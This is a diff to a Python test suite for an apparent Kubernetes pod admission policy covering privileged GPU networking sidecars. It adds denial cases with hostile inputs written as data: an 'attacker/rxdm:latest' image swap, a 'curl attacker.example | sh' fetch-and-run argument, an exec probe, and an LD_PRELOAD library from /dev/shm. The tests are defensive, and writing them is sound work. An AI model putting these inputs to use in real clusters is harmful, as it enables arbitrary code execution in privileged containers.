@@ -98,6 +98,12 @@ def test_the_exceptions_are_the_wiring_of_each_fabric():
     assert (daemon.name, daemon.image, daemon.root) == (TCPXO_DAEMON.container, TCPXO_DAEMON.image, True)
     assert daemon.capabilities == TCPXO_DAEMON.capabilities
     assert daemon.host_paths == ("/home/kubernetes/bin/nvidia", "/proc/sys", "/sys")
+    assert daemon.mounts == (
+        ("/usr/local/nvidia", "/home/kubernetes/bin/nvidia"),
+        ("/hostsysfs", "/sys"),
+        ("/hostprocsysfs", "/proc/sys"),
+    )
+    assert daemon.command == ("/bin/sh", "-c") and daemon.env == (("LD_LIBRARY_PATH", "/usr/local/nvidia/lib64"),)
     assert [k for k, _ in tcpxo.annotations] == ["devices.gke.io/container.tcpxo-daemon"]
     assert rdma.host_paths == ("/home/kubernetes/bin/gib", "/home/kubernetes/bin/nvidia") and not rdma.capabilities
     assert ib.capabilities == ("IPC_LOCK",) and not ib.host_paths and not ib.sidecars
@@ -135,9 +141,28 @@ def _root_container(pod):
     )
 
 
+def daemon(pod):
+    return next(c for c in pod["spec"]["initContainers"] if c["name"] == TCPXO_DAEMON.container)
+
+
 def _sidecar_name_other_image(pod):
-    daemon = next(c for c in pod["spec"]["initContainers"] if c["name"] == TCPXO_DAEMON.container)
-    daemon["image"] = "attacker/rxdm:latest"
+    daemon(pod)["image"] = "attacker/rxdm:latest"
+
+
+def _sidecar_image_other_command(pod):
+    daemon(pod)["args"] = ["curl attacker.example | sh"]
+
+
+def _sidecar_exec_probe(pod):
+    daemon(pod)["startupProbe"] = {"exec": {"command": ["/bin/sh", "-c", "anything"]}}
+
+
+def _sidecar_entrypoint_from_a_scratch_volume(pod):
+    daemon(pod)["volumeMounts"].append({"name": "dshm", "mountPath": "/fts"})
+
+
+def _sidecar_preload(pod):
+    daemon(pod)["env"].append({"name": "LD_PRELOAD", "value": "/dev/shm/x.so"})
 
 
 def _workload_mounts_the_sidecars_sys(pod):
@@ -177,6 +202,14 @@ DENIED = {
     "SYS_ADMIN": ("infiniband", _sys_admin, "every container must drop ALL"),
     "a root container": ("tcpxo", _root_container, "containers must run as non-root"),
     "the sidecar's name, another image": ("tcpxo", _sidecar_name_other_image, "containers must run as non-root"),
+    "the sidecar's image, another command": ("tcpxo", _sidecar_image_other_command, "must run as non-root"),
+    "an exec probe in the sidecar": ("tcpxo", _sidecar_exec_probe, "must run as non-root"),
+    "the sidecar's entrypoint from a scratch volume": (
+        "tcpxo",
+        _sidecar_entrypoint_from_a_scratch_volume,
+        "must run as non-root",
+    ),
+    "LD_PRELOAD in the sidecar": ("tcpxo", _sidecar_preload, "must run as non-root"),
     "the sidecar's /sys in the workload": ("tcpxo", _workload_mounts_the_sidecars_sys, "a hostPath volume may only"),
     "the sidecar's NET_ADMIN in the workload": ("tcpxo", _sidecar_capability_in_the_workload, "every container must"),
     "a device annotation": ("tcpxo", _device_annotation_for_another_device, "host device annotations"),
